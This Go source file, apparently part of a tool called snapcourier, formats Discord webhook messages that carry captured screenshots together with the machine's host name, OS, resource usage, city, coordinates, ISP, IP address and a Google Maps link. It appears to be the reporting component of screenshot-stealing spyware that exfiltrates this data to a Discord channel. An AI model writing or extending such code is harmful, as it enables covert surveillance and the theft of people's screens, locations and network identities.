package deliver

import (
	"fmt"
	"time"

	"github.com/qetzal/snapcourier/internal/capture"
	"github.com/qetzal/snapcourier/internal/enrich"
)

const (
	payloadUsername  = "snapcourier"
	payloadAvatarURL = "https://cdn-icons-png.flaticon.com/512/4712/4712035.png"
)

type embedField struct {
	Name   string `json:"name"`
	Value  string `json:"value"`
	Inline bool   `json:"inline"`
}

type embedFooter struct {
	Text string `json:"text"`
}

type embed struct {
	Title     string       `json:"title"`
	Color     int          `json:"color"`
	Fields    []embedField `json:"fields"`
	Footer    embedFooter  `json:"footer"`
	Timestamp string       `json:"timestamp"`
}

// payload is the Discord-compatible webhook message body sent as the
// payload_json multipart field alongside the image attachment.
type payload struct {
	Content   string  `json:"content"`
	Username  string  `json:"username"`
	AvatarURL string  `json:"avatar_url"`
	Embeds    []embed `json:"embeds"`
}

func buildPayload(rec *capture.Record, loc enrich.LocationInfo, sys enrich.SystemInfo, sessionID string, color int) payload {
	e := embed{
		Title:     "Captured Screenshot",
		Color:     color,
		Footer:    embedFooter{Text: fmt.Sprintf("Session %s • Capture #%d", sessionID, rec.Seq)},
		Timestamp: rec.Timestamp.UTC().Format(time.RFC3339),
	}

	e.Fields = append(e.Fields, embedField{
		Name: "System",
		Value: fmt.Sprintf(
			"**Host:** %s\n**OS:** %s/%s (%s)\n**Runtime:** %s\n**CPU:** %.1f%% • **Mem:** %.1f%% • **Disk:** %.1f%%",
			sys.Hostname, sys.OS, sys.Arch, sys.Platform, sys.Runtime,
			sys.CPUPercent, sys.MemoryPercent, sys.DiskPercent,
		),
	})

	e.Fields = append(e.Fields, embedField{
		Name:  "Location",
		Value: locationField(loc),
	})

	return payload{
		Content:   fmt.Sprintf("Captured at %s", rec.Timestamp.Format("15:04:05")),
		Username:  payloadUsername,
		AvatarURL: payloadAvatarURL,
		Embeds:    []embed{e},
	}
}

func locationField(loc enrich.LocationInfo) string {
	if !loc.Resolved {
		return fmt.Sprintf("Unknown (%s)", loc.FailReason)
	}
	return fmt.Sprintf(
		"**%s, %s**\n**Coordinates:** %.6f, %.6f\n**ISP:** %s\n**IP:** ||%s||\n[Google Maps](%s)",
		loc.City, loc.Country, loc.Latitude, loc.Longitude, loc.ISP, loc.IP, loc.MapsLink(),
	)
}
